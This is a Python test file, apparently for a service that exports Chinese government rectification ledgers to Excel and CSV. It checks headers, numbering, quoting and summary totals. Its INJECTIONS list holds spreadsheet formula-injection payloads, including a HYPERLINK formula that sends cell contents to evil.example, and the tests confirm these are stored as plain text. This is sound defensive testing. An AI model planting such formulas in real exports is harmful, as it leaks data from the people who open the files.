"""Ledgers (台账) rendered as the notice's three lists, read back as a user would."""

import csv
import io

import pytest
from openpyxl import load_workbook

from services.issues.ledger import (
    HEADERS,
    LISTS,
    TITLES,
    csv_bytes,
    summary_csv,
    summary_rows,
    xlsx,
)

UNIT = "区行政审批局"
PROBLEM = {
    "manifestation": "窗口工作人员推诿，要求补交材料三次",
    "responsible": "张三",
    "measures": "约谈窗口负责人，一次性告知所需材料",
    "progress": "已整改",
    "supervision": "李四",
}
SUMMARY = {
    "scope": "滨海新区 作风纪律专项整治",
    "period": "2026-11",
    "as_of": "2026-11-20",
    "units": [
        {
            "unit_name": UNIT,
            "registered": 3,
            "rectifying": 2,
            "submitted": 1,
            "closed": 4,
            "overdue": 1,
            "closed_on_time": 3,
        },  # fmt: skip
        {
            "unit_name": "区市场监管局",
            "registered": 1,
            "rectifying": 0,
            "submitted": 2,
            "closed": 5,
            "overdue": 0,
            "closed_on_time": 5,
        },  # fmt: skip
    ],
}
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


def workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def values(ws) -> list[tuple]:
    return list(ws.iter_rows(values_only=True))


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_headers_and_titles_are_the_notices_own_words():
    assert LISTS == ("problem", "improvement", "suggestion")
    assert HEADERS == {
        "problem": (
            "序号",
            "作风纪律、工作流程问题具体表现",
            "责任人",
            "整改措施",
            "整改进展情况",
            "监督",
        ),  # fmt: skip
        "improvement": (
            "序号",
            "改进作风纪律、理顺工作流程具体表现",
            "责任人",
            "改进措施",
            "监督责任人",
        ),  # fmt: skip
        "suggestion": ("序号", "单位名称", "改进作风纪律、理顺工作流程具体表现"),
    }
    assert TITLES == {
        "problem": "（{unit}）查摆出作风纪律、工作流程问题清单",
        "improvement": "（{unit}）查摆出应进一步改进作风纪律、理顺工作流程清单",
        "suggestion": "（{unit}）认为其他单位应进一步改进作风纪律、理顺工作流程清单",
    }


def test_each_list_given_becomes_a_sheet_named_after_its_attachment():
    wb = workbook(xlsx(UNIT, {"suggestion": [], "problem": [PROBLEM]}))
    assert wb.sheetnames == ["附件1", "附件3"]


def test_a_sheet_opens_with_label_title_and_headers_as_in_the_notice():
    wb = workbook(xlsx(UNIT, {kind: [] for kind in LISTS}))
    for kind, label in zip(LISTS, ("附件1", "附件2", "附件3"), strict=True):
        ws = wb[label]
        rows = values(ws)
        width = len(HEADERS[kind])
        assert rows[0] == (label,) + (None,) * (width - 1)
        assert rows[1][0] == TITLES[kind].format(unit=UNIT)
        assert rows[2] == HEADERS[kind]
        assert len(rows) == 3  # an empty list is still a sheet: nothing was found
        letter = "ABCDEFGH"[width - 1]
        assert [str(r) for r in ws.merged_cells.ranges] == [f"A2:{letter}2"]
        assert all(cell.font.b for cell in ws[3])
        assert ws.freeze_panes == "A4"


def test_items_are_numbered_from_one_and_a_missing_value_is_an_empty_cell():
    second = {**PROBLEM, "progress": None, "supervision": None}
    ws = workbook(xlsx(UNIT, {"problem": [PROBLEM, second]}))["附件1"]
    rows = values(ws)[3:]
    assert rows == [
        (1, *PROBLEM.values()),
        (2, *list(PROBLEM.values())[:3], None, None),
    ]
    assert ws["B4"].alignment.wrap_text


def test_improvement_and_suggestion_rows_take_their_own_fields():
    improvement = {"manifestation": "审批环节多", "responsible": "王五",
                   "measures": "合并环节", "supervisor": "赵六"}  # fmt: skip
    suggestion = {"unit_name": "区税务局", "manifestation": "办税大厅排队时间长"}
    wb = workbook(
        xlsx(UNIT, {"improvement": [improvement], "suggestion": [suggestion]})
    )
    assert values(wb["附件2"])[3] == (1, "审批环节多", "王五", "合并环节", "赵六")
    assert values(wb["附件3"])[3] == (1, "区税务局", "办税大厅排队时间长")


def test_an_unknown_list_is_refused_by_name():
    with pytest.raises(ValueError, match="complaints"):
        xlsx(UNIT, {"complaints": []})
    with pytest.raises(ValueError, match="complaints"):
        csv_bytes("complaints", [])


def test_csv_carries_a_bom_the_headers_and_numbered_rows():
    rows = read_csv(csv_bytes("problem", [PROBLEM, {**PROBLEM, "measures": None}]))
    assert rows[0] == list(HEADERS["problem"])
    assert rows[1] == ["1", *PROBLEM.values()]
    assert rows[2][0] == "2" and rows[2][3] == ""


def test_csv_quotes_commas_newlines_and_quotes_as_rfc_4180_asks():
    text = '他说"材料不全",让我明天再来\r\n第二天仍不受理'
    data = csv_bytes(
        "suggestion", [{"unit_name": "区税务局,二分局", "manifestation": text}]
    )
    assert b'"\xe5\x8c\xba' in data  # the unit name is quoted for its comma
    assert '"他说""材料不全"",让我明天再来\r\n第二天仍不受理"\r\n'.encode() in data
    assert read_csv(data)[1] == ["1", "区税务局,二分局", text]


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_text_reads_as_text_in_csv(text):
    row = {"unit_name": text, "manifestation": text}
    assert read_csv(csv_bytes("suggestion", [row]))[1] == ["1", "'" + text, "'" + text]


def test_formula_like_text_is_stored_in_xlsx_as_the_words_written_not_a_formula():
    rows = [{**PROBLEM, "manifestation": text} for text in INJECTIONS]
    ws = workbook(xlsx(UNIT, {"problem": rows}))["附件1"]
    for n, text in enumerate(INJECTIONS, 4):
        cell = ws.cell(row=n, column=2)
        assert (cell.data_type, cell.value) == ("s", text.replace("\r", "\n"))
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited


def test_a_control_character_pasted_into_a_complaint_does_not_break_the_export():
    row = {"unit_name": "区税务局", "manifestation": "办税\x00大厅\x1b排队"}
    ws = workbook(xlsx(UNIT, {"suggestion": [row]}))["附件3"]
    assert ws["C4"].value == "办税大厅排队"


def test_line_breaks_in_xlsx_are_excels_own():
    row = {"unit_name": "区税务局", "manifestation": "一\r\n二\r三\n四"}
    ws = workbook(xlsx(UNIT, {"suggestion": [row]}))["附件3"]
    assert ws["C4"].value == "一\n二\n三\n四"


def test_summary_lists_each_unit_then_the_totals():
    assert summary_rows(SUMMARY) == [
        ["序号", "单位", "登记", "整改中", "待销号", "已销号", "超期", "按期销号"],
        [1, UNIT, 3, 2, 1, 4, 1, 3],
        [2, "区市场监管局", 1, 0, 2, 5, 0, 5],
        [None, "合计", 4, 2, 3, 9, 1, 8],
    ]
    assert read_csv(summary_csv(SUMMARY))[-1] == [
        "",
        "合计",
        "4",
        "2",
        "3",
        "9",
        "1",
        "8",
    ]


def test_summary_sheet_comes_first_with_scope_period_and_totals():
    wb = workbook(xlsx(UNIT, {"problem": [PROBLEM]}, summary=SUMMARY))
    assert wb.sheetnames == ["汇总", "附件1"]
    rows = values(wb["汇总"])
    assert (
        rows[1][0] == "（滨海新区 作风纪律专项整治）2026-11 台账汇总（截至2026-11-20）"
    )
    assert [list(r) for r in rows[2:]] == summary_rows(SUMMARY)
    assert wb["汇总"]["B6"].font.b


def test_a_summary_without_lists_is_a_workbook_and_nothing_at_all_is_refused():
    assert workbook(xlsx(UNIT, {}, summary=SUMMARY)).sheetnames == ["汇总"]
    with pytest.raises(ValueError, match="nothing to render"):
        xlsx(UNIT, {})


def test_ten_thousand_rows_export_to_both_formats():
    rows = [{**PROBLEM, "progress": f"第{n}次回访"} for n in range(10_000)]
    ws = workbook(xlsx(UNIT, {"problem": rows}))["附件1"]
    assert ws.max_row == 3 + 10_000
    assert ws.cell(row=10_003, column=1).value == 10_000
    assert len(read_csv(csv_bytes("problem", rows))) == 1 + 10_000
